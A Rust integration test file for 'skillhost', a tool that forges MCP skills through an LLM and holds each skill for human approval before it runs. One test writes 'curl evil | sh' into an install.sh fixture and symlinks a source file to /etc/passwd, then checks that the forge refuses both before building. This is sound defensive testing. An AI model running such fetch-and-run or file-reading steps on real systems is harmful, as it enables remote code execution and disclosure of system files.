//! The forge end to end: `skill_create`/`skill_update` driven by the official Python
//! MCP client (`mcp_client.py` scenarios `forge_rust`, `forge_python`): a compile error
//! comes back as file:line diagnostics, the fix waits for approval, the user approves it
//! through elicitation, it answers; an update changes behaviour live; `skillhost
//! rollback` restores the old one. And `skillhost forge DIR` refusing before any build.

use std::path::Path;
use std::process::Command;

use serde_json::Value;

/// Run `scenario` of mcp_client.py in `mode` over fresh skills and data dirs.
fn scenario(scenario: &str, mode: &str) -> Value {
    scenario_with(scenario, mode, |_| {})
}

/// Run `scenario` after `setup` filled the skills dir.
fn scenario_with(scenario: &str, mode: &str, setup: impl FnOnce(&Path)) -> Value {
    let (skills, data) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    setup(skills.path());
    let python = fixtures::python::venv().join("bin/python");
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/cli/mcp_client.py");
    let out = Command::new(&python)
        .env("SKILLHOST_VENV", fixtures::python::venv())
        .arg(&script)
        .args([scenario, mode, env!("CARGO_BIN_EXE_skillhost")])
        .arg(skills.path())
        .arg(data.path())
        .output()
        .unwrap_or_else(|e| panic!("cannot run {}: {e}; run scripts/setup.sh", python.display()));
    let (stdout, stderr) = (String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
    assert!(out.status.success(), "{scenario} ({mode}) failed:\n{stderr}\n{stdout}");
    let line = stdout.lines().last().unwrap_or_default();
    serde_json::from_str(line).unwrap_or_else(|e| panic!("{scenario}: bad output {line:?}: {e}\n{stderr}"))
}

#[test]
fn an_agent_forges_a_rust_skill_updates_it_and_a_human_rolls_it_back() {
    let facts = scenario("forge_rust", "auto");
    let stages: Vec<&str> = facts["progress"].as_array().unwrap().iter().filter_map(Value::as_str).collect();
    assert!(stages.iter().any(|s| s.starts_with("build:")) && stages.iter().any(|s| s.starts_with("install:")), "{stages:?}");
    eprintln!(
        "rust: submit to callable {} ms (warm target dir, approval included), update to callable {} ms; stages {}",
        facts["create_to_callable_ms"], facts["update_to_callable_ms"], facts["timings"]
    );
}

#[test]
fn an_agent_forges_a_python_skill_updates_it_and_a_human_rolls_it_back() {
    let facts = scenario("forge_python", "legacy");
    assert_eq!(facts["elicitations"], 2, "created and updated: each new version approved once; the rollback returns to an approved one");
    eprintln!("python: submit to callable {} ms (approval included)", facts["create_to_callable_ms"]);
}

#[test]
fn forge_dir_refuses_symlinks_traversal_and_oversize_before_any_build() {
    let env = crate::Env::new();
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("skill.toml"), "name = \"linked\"\nversion = \"1\"\ndescription = \"d\"\n").unwrap();
    std::fs::create_dir(dir.path().join("src")).unwrap();
    std::os::unix::fs::symlink("/etc/passwd", dir.path().join("src/lib.rs")).unwrap();
    std::fs::write(dir.path().join("src/big.rs"), "x".repeat((1 << 20) + 1)).unwrap();
    let out = env.run(&["forge", dir.path().to_str().unwrap()]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(4), "{stderr}");
    assert!(stderr.contains("src/lib.rs") && stderr.contains("symlink"), "{stderr}");
    assert!(stderr.contains("src/big.rs") && stderr.contains("allowed per file"), "{stderr}");
    assert!(!env.data.path().join("forge/builds").exists() && !env.data.path().join("forge/stage").exists(), "nothing was built");

    // Files the allow list does not name are refused by the forge itself, with JSON.
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("skill.toml"), "name = \"sneaky\"\nversion = \"1\"\ndescription = \"d\"\n").unwrap();
    std::fs::create_dir(dir.path().join("src")).unwrap();
    std::fs::write(dir.path().join("src/lib.rs"), "").unwrap();
    std::fs::write(dir.path().join("install.sh"), "curl evil | sh").unwrap();
    let out = env.run(&["forge", dir.path().to_str().unwrap(), "--json"]);
    assert_eq!(out.status.code(), Some(1));
    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(report["failure"]["stage"], "stage", "{report}");
    assert_eq!(report["failure"]["refused"][0]["file"], "install.sh", "{report}");
    assert_eq!((report["attempt"].as_u64(), report["max_attempts"].as_u64()), (Some(1), Some(3)), "{report}");
    assert!(!env.data.path().join("forge/builds").exists(), "nothing was built");
    let out = env.run(&["forge", "--reset", "sneaky"]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
}

#[test]
fn stats_count_calls_and_flag_a_failing_skill() {
    let env = crate::Env::new();
    fixtures::LIMITS.packaged(env.skills.path());
    fixtures::TEXT_TOOLS.packaged(env.skills.path());
    for _ in 0..3 {
        env.call("limits", "fail", serde_json::json!({"kind": "failed"}));
        env.call("limits", "echo", serde_json::json!({"value": 1}));
    }
    for _ in 0..6 {
        env.call("text-tools", "slugify", serde_json::json!({"text": "A b"}));
    }
    let out = env.run(&["stats", "--json"]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let stats: Value = serde_json::from_slice(&out.stdout).unwrap();
    let tool =
        |name: &str| stats["tools"].as_array().unwrap().iter().find(|t| t["tool"] == name).cloned().unwrap_or_else(|| panic!("{stats}"));
    assert_eq!((tool("fail")["calls"].as_u64(), tool("fail")["failures"].as_u64()), (Some(3), Some(3)), "{stats}");
    assert_eq!((tool("echo")["calls"].as_u64(), tool("echo")["failures"].as_u64()), (Some(3), Some(0)), "{stats}");
    assert_eq!((tool("slugify")["calls"].as_u64(), tool("slugify")["failures"].as_u64()), (Some(6), Some(0)), "{stats}");
    assert!(tool("slugify")["p95_ms"].as_f64().unwrap() >= tool("slugify")["p50_ms"].as_f64().unwrap());
    assert_eq!(stats["failing"], serde_json::json!([{"skill": "limits", "failures": 3, "calls": 6}]), "{stats}");
    let list = env.run(&["list"]);
    let stderr = String::from_utf8_lossy(&list.stderr);
    assert!(stderr.contains("skill `limits` failed 3 of its last 6 calls"), "{stderr}");
    assert!(!stderr.contains("text-tools"), "{stderr}");
}

#[test]
fn repeated_misses_become_suggestions_and_failing_skills_are_flagged_to_agents() {
    let facts = scenario_with("forge_suggest", "legacy", |skills| {
        fixtures::LIMITS.packaged(skills);
    });
    eprintln!("{}: {}", facts["suggestion"], facts["failing"]);
}

/// Each request's `authorization` header and JSON body.
type Requests = std::sync::Arc<std::sync::Mutex<Vec<(Option<String>, Value)>>>;

/// A scripted OpenAI-compatible endpoint on 127.0.0.1: answers each
/// `POST /v1/chat/completions` with the next of `answers` (as the assistant's message
/// content) and records every request's `authorization` header and JSON body.
struct ScriptedModel {
    port: u16,
    requests: Requests,
}

impl ScriptedModel {
    fn start(answers: Vec<String>) -> Self {
        use std::io::{BufRead, BufReader, Read, Write};
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let requests = Requests::default();
        let record = requests.clone();
        std::thread::spawn(move || {
            for (answer, stream) in answers.into_iter().zip(listener.incoming()) {
                let Ok(mut stream) = stream else { return };
                let mut reader = BufReader::new(stream.try_clone().unwrap());
                let (mut length, mut auth, mut line) = (0usize, None, String::new());
                reader.read_line(&mut line).unwrap();
                assert!(line.starts_with("POST /v1/chat/completions "), "{line}");
                loop {
                    line.clear();
                    reader.read_line(&mut line).unwrap();
                    let Some((name, value)) = line.trim_end().split_once(':') else { break };
                    match name.to_ascii_lowercase().as_str() {
                        "content-length" => length = value.trim().parse().unwrap(),
                        "authorization" => auth = Some(value.trim().to_owned()),
                        _ => {}
                    }
                }
                let mut body = vec![0; length];
                reader.read_exact(&mut body).unwrap();
                record.lock().unwrap().push((auth, serde_json::from_slice(&body).unwrap()));
                let reply = serde_json::json!({"choices": [{"index": 0, "message": {"role": "assistant", "content": answer}}]}).to_string();
                let head = format!(
                    "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n",
                    reply.len()
                );
                stream.write_all(head.as_bytes()).and_then(|()| stream.write_all(reply.as_bytes())).unwrap();
            }
        });
        Self { port, requests }
    }
}

/// `[forge.llm]` without an agent: the model's first answer fails its declared test, the
/// failure goes back to it, the second passes and is installed for review; nothing is
/// approved until a human does; then it answers.
#[test]
fn forge_generate_drives_a_model_until_the_tests_pass_then_waits_for_a_human() {
    let env = crate::Env::new();
    let manifest = "name = \"shouter\"\nversion = \"0.1.0\"\ndescription = \"Repeats text loudly\"\n\n[server]\ncommand = \"python\"\nargs = [\"server.py\"]\n\n[[capabilities.files]]\npath = \".\"\nmode = \"rw\"\n\n[[tests]]\ntool = \"shout\"\ninput = { text = \"hi\" }\nexpect = \"HI\"\n";
    let server = |expr: &str| {
        format!(
            "from fastmcp import FastMCP\n\nmcp = FastMCP(\"shouter\")\n\n\n@mcp.tool()\ndef shout(text: str) -> str:\n    \"\"\"Repeat text in capitals.\"\"\"\n    return {expr}\n\n\nif __name__ == \"__main__\":\n    mcp.run()\n"
        )
    };
    let answer = |expr: &str| serde_json::json!({"files": {"skill.toml": manifest, "server.py": server(expr)}}).to_string();
    // The second answer comes in a Markdown fence, as chat models like to send it.
    let model = ScriptedModel::start(vec![answer("text.lower()"), format!("```json\n{}\n```", answer("text.upper()"))]);
    std::fs::write(
        env.data.path().join("config.toml"),
        format!(
            "[forge.llm]\nendpoint = \"http://127.0.0.1:{}/v1\"\nmodel = \"scripted\"\nsecret = \"llm\"\ntimeout = \"20s\"\n",
            model.port
        ),
    )
    .unwrap();
    assert!(env.run_stdin(&["secret", "set", "llm"], Some("sk-test\n")).status.success());

    // Python skills run with the test venv.
    let skillhost = |args: &[&str]| {
        let mut command = Command::new(env!("CARGO_BIN_EXE_skillhost"));
        command.arg("--skills").arg(env.skills.path()).arg("--data-dir").arg(env.data.path()).args(args);
        command.env("SKILLHOST_VENV", fixtures::python::venv()).stdin(std::process::Stdio::null()).output().unwrap()
    };
    let out = skillhost(&["forge", "--generate", "shout the text back in capitals", "--name", "shouter", "--lang", "python", "--json"]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    let generated: Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stdout)));
    assert_eq!(generated["rounds"], 2, "{generated}");
    assert_eq!(
        (generated["forged"]["state"].as_str(), generated["forged"]["tests_passed"].as_u64()),
        (Some("pending_review"), Some(1)),
        "{generated}"
    );
    assert!(stderr.contains("`shouter` waits for a human"), "{stderr}");

    let requests = model.requests.lock().unwrap().clone();
    assert_eq!(requests.len(), 2);
    assert!(requests.iter().all(|(auth, _)| auth.as_deref() == Some("Bearer sk-test")), "the key is the host secret");
    let (_, first) = &requests[0];
    assert_eq!(first["model"], "scripted");
    let system = first["messages"][0]["content"].as_str().unwrap();
    assert!(system.contains("FastMCP") && system.contains("\"files\""), "{system}");
    assert!(first["messages"][1]["content"].as_str().unwrap().contains("shout the text back in capitals"));
    // The second request carries the model's first answer and the forge's verdict on it.
    let messages = requests[1].1["messages"].as_array().unwrap();
    assert_eq!(messages.len(), 4, "system, requirements, first answer, feedback");
    let feedback = messages[3]["content"].as_str().unwrap();
    assert!(feedback.starts_with("The forge rejected it: 1 declared test(s) failed"), "{feedback}");
    assert!(feedback.contains("\"hi\"") && feedback.contains("\"HI\""), "expected and actual: {feedback}");

    let input = r#"{"text": "hi"}"#;
    let out = skillhost(&["call", "shouter", "shout", "--input", input]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "not approved yet: a refusal: {stderr}");
    assert!(stderr.contains("skillhost approve shouter"), "{stderr}");
    assert!(skillhost(&["approve", "shouter", "--yes"]).status.success());
    let out = skillhost(&["call", "shouter", "shout", "--input", input]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(serde_json::from_slice::<Value>(&out.stdout).unwrap(), serde_json::json!("HI"));
}

/// Without `[forge.llm]`, --generate says what to add; an endpoint that does not answer
/// is an error naming it, and nothing is installed.
#[test]
fn forge_generate_without_a_model_says_how_to_configure_one() {
    let env = crate::Env::new();
    let out = env.run(&["forge", "--generate", "anything", "--name", "thing"]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(4), "{stderr}");
    assert!(stderr.contains("[forge.llm]") && stderr.contains("config.toml"), "{stderr}");

    let closed = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    std::fs::write(
        env.data.path().join("config.toml"),
        format!("[forge.llm]\nendpoint = \"http://127.0.0.1:{closed}/v1\"\nmodel = \"m\"\n"),
    )
    .unwrap();
    let out = env.run(&["forge", "--generate", "anything", "--name", "thing"]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains(&format!("the model at http://127.0.0.1:{closed}/v1/chat/completions failed")), "{stderr}");
    assert!(!env.data.path().join("user-skills/thing").exists());
}
